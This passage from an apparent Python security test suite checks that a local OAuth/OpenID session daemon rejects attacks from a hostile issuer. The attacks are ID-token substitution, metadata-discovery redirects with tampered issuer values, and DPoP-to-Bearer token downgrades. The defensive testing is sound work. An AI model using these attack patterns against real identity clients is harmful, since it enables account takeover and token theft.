        return f"{signed}.{self.part(signature.stdout)}"


@attack(WHO, "puts somebody else into the place of the account that has logged in")
def _(scene: Scene) -> None:
    signer = Signer(scene)
    issuer = signer.issuer
    table = f'[session.s]\nissuer = "{issuer.url}"\nclient_id = "c"\nflow = "password"\nscopes = ["openid"]\n'
    scene.configure(table)
    scene.start()

    def log_in(**members: object) -> int:
        issuer.says("/token", lambda request, connection: answer(200, issuer.good(scope="openid", **members)))
        return scene.ctl("login", "s", "--username", "u", "--password-stdin", stdin="p\n").returncode

    must(log_in(id_token=signer.token("alice")) == 0, "a login with a good ID token fails")
    token = scene.get("s")[1]["access_token"]
    for other in (None, "", "a.b.c"):
        must(log_in(id_token=other) != 0, f"a login with the ID token {other!r} is taken for alice's")
        status, found = scene.get("s")
        must(status == 200 and found["access_token"] == token, f"alice's token is replaced with {other!r}")
    issuer.says("/token", lambda request, connection: answer(200, issuer.good(id_token=signer.token("mallory"))))
    must(refresh(scene)[0] != 200, "a refresh that brings somebody else's ID token is taken")
    must(scene.get("s")[1].get("access_token", token) == token, "somebody else's token is served")
    must(log_in(id_token=signer.token("alice")) == 0, "alice cannot log in any more")
    scene.stop()
    # And where one is required, a first login without one is none.
    shutil.rmtree(scene.store)
    scene.configure(table + 'id_token = "required"\n')
    scene.start()
    must(log_in(id_token=None) != 0, "a login without the ID token that is required is taken")
    must(scene.get("s")[0] == 401, "its token is served")


@attack(WHO, "leads the search for its metadata to another server")
def _(scene: Scene) -> None:
    issuer, elsewhere = scene.issuer(), scene.issuer()
    document = {
        "issuer": issuer.url,
        "authorization_endpoint": f"{elsewhere.url}/authorize",
        "token_endpoint": f"{elsewhere.url}/token",
        "response_types_supported": ["code"],
    }
    places = ("/.well-known/openid-configuration", "/.well-known/oauth-authorization-server")
    for place in places:
        elsewhere.says(place, answer(200, document))
    table = f'[session.s]\nissuer = "{issuer.url}"\nclient_id = "c"\nflow = "password"\nscopes = ["all"]\n'
    page = f'<html><meta http-equiv="refresh" content="0;url={elsewhere.url}{places[0]}"></html>'.encode()
    for reply in (
        *(answer(status, b"", {"Location": elsewhere.url + places[0]}) for status in (301, 302, 303, 307, 308)),
        answer(200, page, {"Content-Type": "text/html", "Refresh": f"0; url={elsewhere.url}{places[0]}"}),
        answer(200, document | {"issuer": elsewhere.url}),
        answer(200, document | {"issuer": f"{issuer.url}/../"}),
        answer(200, document | {"issuer": issuer.url.replace("127.0.0.1", "localhost")}),
        answer(200, document | {"issuer": [issuer.url]}),
        answer(200, {}),
    ):
        for place in places:
            issuer.says(place, reply)
        scene.configure(table)
        scene.start()
        done = scene.ctl("login", "s", "--username", "u", "--password-stdin", stdin=f"{SECRET_MARK}-password\n")
        must(done.returncode != 0, f"a login is taken with {reply[:120]!r}")
        must(not elsewhere.requests, f"the other server was asked for {elsewhere.requests[:1]}")
        scene.silent_about_secrets(done.stderr)
        scene.stop()


@attack(WHO, "gives a plain token to a session whose tokens are bound to a key")
def _(scene: Scene) -> None:
    issuer = scene.issuer()
    scene.configure(scene.session("s", issuer, "dpop = true"))
    scene.start()

    def log_in() -> int:
        return scene.ctl("login", "s", "--username", "u", "--password-stdin", stdin="p\n").returncode

    for kind in ("Bearer", "bearer", "bot", "MAC", "N_A", "", None):
        issuer.says("/token", lambda request, connection: answer(200, issuer.good(token_type=kind)))
        must(log_in() != 0, f"a login with token_type {kind!r} is taken")
        must(scene.get("s")[0] != 200, f"a token of type {kind!r} is served")
    issuer.says("/token", lambda request, connection: answer(200, issuer.good(token_type="DPoP")))
    must(log_in() == 0, "a login with a bound token fails")
    must(all("dpop" in request.headers for request in issuer.seen("/token")), "a request has no proof")
    _, first = scene.request("GET", "/v1/sessions/s/token?dpop_url=https%3A%2F%2Fapi.example%2F")
    must(first.get("token_type", "").lower() == "dpop", f"the token is said to be {first}")
    for kind in ("Bearer", "bot"):
        issuer.says("/token", lambda request, connection: answer(200, issuer.good(token_type=kind)))
        must(refresh(scene)[0] != 200, f"a refresh with token_type {kind!r} is taken")
    _, found = scene.request("GET", "/v1/sessions/s/token?dpop_url=https%3A%2F%2Fapi.example%2F")
    must(found.get("access_token", first["access_token"]) == first["access_token"], "a plain token is served")
